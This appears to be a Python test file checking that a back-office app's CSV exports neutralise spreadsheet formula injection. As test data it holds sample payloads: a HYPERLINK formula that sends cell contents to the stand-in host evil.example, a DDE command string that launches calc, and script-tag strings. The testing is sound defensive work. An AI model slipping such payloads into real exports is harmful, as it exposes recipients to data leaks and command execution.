"""Every CSV the app produces comes out of one writer that keeps a cell from running as a spreadsheet formula; the
reorder list was the one that did not (a product named `=HYPERLINK(…)` ran in Excel)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from nicegui.testing import User

from backoffice.db import session_scope
from backoffice.services import stock
from backoffice.transfer.csv_out import csv_text

from .support.factories import make_product, make_user
from .support.signin import signed_in

ROOT = Path(__file__).resolve().parents[1]
NAMES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Open: <script>alert(1)</script>")',
    '+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1:1)',
    "Plain 'mug': <b>safe</b>",
]


async def test_the_reorder_list_from_inventory_keeps_every_product_name_as_text(user: User) -> None:
    manager = make_user('manager')
    for number, name in enumerate(NAMES):
        product = make_product(f'SKU-{number}', name=name, stock_on_hand=1, actor=manager)
        with session_scope() as session:
            stock.set_limits(session=session, actor=manager, product_id=product.id, min_qty=5, max_qty=10)
    await signed_in(user, manager.email, path='/inventory')
    await user.should_see(marker='reorder-csv', retries=40)
    user.find(marker='reorder-csv').click()
    download = await user.download.next(timeout=5)
    assert download.content.startswith(b'\xef\xbb\xbf')  # the BOM Excel needs to read accents (as every other CSV)

    rows = list(csv.reader(io.StringIO(download.content.decode('utf-8-sig'), newline='')))
    names = [row[1] for row in rows[1:]]
    assert names == [f"'{name}" for name in NAMES[:-1]] + [NAMES[-1]]  # by SKU; a plain name is left as it is
    assert [row[2] for row in rows[1:]] == ['9'] * len(NAMES)  # numbers stay numbers


def test_the_writer_guards_text_but_not_numbers() -> None:
    text = csv_text(['name', 'change'], [['=1+1', -3], ['@me', '-3'], [None, 2.5], ['\tx', '\ry']])
    assert list(csv.reader(io.StringIO(text, newline=''))) == [
        ['name', 'change'],
        ["'=1+1", '-3'],
        ["'@me", "'-3"],
        ['', '2.5'],
        ["'\tx", "'\ry"],
    ]


def test_semicolons_quote_a_cell_that_holds_one_and_guard_formulas_alike() -> None:
    text = csv_text(
        ['name', 'note'], [['Dupont; Marie', '=1+1'], ['a,b: "c"', '<script>alert(1)</script>']], separator=';'
    )
    assert text.splitlines()[:2] == ['name;note', '"Dupont; Marie";\'=1+1']  # a comma needs no quotes here
    assert list(csv.reader(io.StringIO(text, newline=''), delimiter=';')) == [
        ['name', 'note'],
        ['Dupont; Marie', "'=1+1"],
        ['a,b: "c"', '<script>alert(1)</script>'],
    ]
    with pytest.raises(ValueError, match='separator'):
        csv_text(['name'], [], separator='\t')


WRITES_CSV = re.compile(
    r'\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b'
    r'|\.to_csv\s*\(|\bwriterows?\s*\('
)


def test_no_module_but_the_csv_writer_writes_csv_itself() -> None:
    """A new export must use backoffice/transfer/csv_out.py, or its cells are not guarded against formulas."""
    sources = [
        *ROOT.glob('backoffice/**/*.py'),
        *ROOT.glob('components/**/*.py'),
        *ROOT.glob('pages/**/*.py'),
        *ROOT.glob('bench/**/*.py'),
        ROOT / 'main.py',
    ]
    offenders = [
        str(path.relative_to(ROOT))
        for path in sources
        if path.name != 'csv_out.py' and WRITES_CSV.search(path.read_text())
    ]
    assert offenders == []
    assert WRITES_CSV.search('writer = csv.writer(buffer)') and WRITES_CSV.search('frame.to_csv(out)')
